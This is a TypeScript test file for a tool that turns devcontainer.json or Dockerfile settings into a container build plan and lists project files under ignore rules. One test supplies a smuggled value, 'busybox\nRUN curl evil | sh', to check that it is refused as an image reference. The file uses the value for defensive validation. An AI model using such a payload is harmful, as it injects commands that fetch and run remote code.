import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { commandsOf, parseJsonc, planFor } from './devcontainer';
import { projectFiles } from './project-files';

function folder(files: Record<string, string>): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'box-up-'));
  for (const [name, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    fs.writeFileSync(path.join(dir, name), content);
  }
  return dir;
}

test('parseJsonc takes comments and trailing commas, never inside strings', () => {
  const text = '{\n // a comment\n "a": "http://x/*y*/", /* block */ "b": [1, 2,],\n "c": "a,]",\n}';
  assert.deepEqual(parseJsonc(text), { a: 'http://x/*y*/', b: [1, 2], c: 'a,]' });
});

test('a devcontainer.json: the common subset read, paths from its own folder, other properties named as ignored', () => {
  const dir = folder({
    '.devcontainer/devcontainer.json': JSON.stringify({
      name: 'My App',
      build: { dockerfile: 'Dockerfile', context: '..', args: { V: '1' } },
      containerEnv: { A: 'a' },
      remoteEnv: { B: 'b' },
      forwardPorts: [3000, 5000, 'db:5432'],
      postCreateCommand: 'make',
      postStartCommand: { web: ['npm', 'start'], log: 'echo hi' },
      features: { 'ghcr.io/x/y:1': {} },
      customizations: {},
    }),
  });
  const plan = planFor(dir);
  assert.equal(plan.source, path.join('.devcontainer', 'devcontainer.json'));
  assert.equal(plan.name, 'My App');
  assert.deepEqual(plan.build, {
    context: dir,
    dockerfile: path.join(dir, '.devcontainer', 'Dockerfile'),
    args: ['V=1'],
  });
  assert.deepEqual(plan.environment, { A: 'a', B: 'b' });
  assert.equal(plan.workspaceFolder, '/workspace');
  assert.deepEqual(plan.ports, [3000, 5000]);
  assert.deepEqual(commandsOf(plan.postCreateCommand), [{ label: '', argv: ['sh', '-c', 'make'] }]);
  assert.deepEqual(commandsOf(plan.postStartCommand), [
    { label: 'web', argv: ['npm', 'start'] },
    { label: 'log', argv: ['sh', '-c', 'echo hi'] },
  ]);
  const notes = plan.notes.join('\n');
  assert.match(notes, /"features" is ignored \(features are fetched from a registry\)/);
  assert.match(notes, /"customizations" is ignored/);
  assert.match(notes, /forwardPorts "db:5432" is left out/);
  assert.match(notes, /port 3000 is published and 5000 not/);
});

test('no devcontainer.json: the root Dockerfile, else the default base', () => {
  const withDockerfile = folder({ Dockerfile: 'FROM boxdesk/default\n' });
  assert.equal(planFor(withDockerfile).source, 'Dockerfile');
  assert.equal(planFor(withDockerfile).build?.context, withDockerfile);
  const plain = planFor(folder({ 'a.txt': 'x' }));
  assert.equal(plain.source, null);
  assert.equal(plain.build, undefined);
  assert.throws(() => planFor(folder({ '.devcontainer.json': '{ nope' })), /\.devcontainer\.json is not valid JSON/);
});

test('an image that is not one image reference is refused: it would become lines of a Dockerfile', () => {
  for (const image of ['busybox\nRUN curl evil | sh', 'a b', ''])
    assert.throws(
      () => planFor(folder({ '.devcontainer.json': JSON.stringify({ image }) })),
      /is not an image reference/,
    );
  assert.equal(
    planFor(folder({ '.devcontainer.json': '{"image": "docker.io/library/python:3.12@sha256:ab"}' })).image,
    'docker.io/library/python:3.12@sha256:ab',
  );
});

test('projectFiles leaves out .git and what .gitignore and .boxdeskignore say, in the folder they stand in and below', () => {
  const dir = folder({
    '.gitignore': 'node_modules/\n*.log\n',
    '.boxdeskignore': 'secret.txt\n',
    'src/app.ts': 'x',
    'src/.gitignore': 'gen/\n',
    'src/gen/out.js': 'x',
    'src/keep.txt': 'x',
    'debug.log': 'x',
    'node_modules/m/index.js': 'x',
    'secret.txt': 'x',
    '.git/HEAD': 'x',
  });
  const files = projectFiles(dir, { git: ['.gitignore', '.boxdeskignore'] });
  assert.deepEqual(files.files, ['.boxdeskignore', '.gitignore', 'src/.gitignore', 'src/app.ts', 'src/keep.txt']);
  assert.deepEqual(files.dirs, ['src']);
});

test('projectFiles with .dockerignore reads it as Docker does: from the root only, patterns anchored there', () => {
  const dir = folder({
    '.dockerignore': '*.md\nbuild\n!build/keep.txt\n',
    'README.md': 'x',
    'docs/guide.md': 'kept: *.md matches the root only',
    'build/out.bin': 'x',
    'build/keep.txt': 'an exception',
    'sub/.dockerignore': '*\n',
    'sub/a.txt': 'a nested .dockerignore is not read',
  });
  const files = projectFiles(dir, 'dockerignore');
  assert.deepEqual(files.files.sort(), [
    '.dockerignore',
    'build/keep.txt',
    'docs/guide.md',
    'sub/.dockerignore',
    'sub/a.txt',
  ]);
});
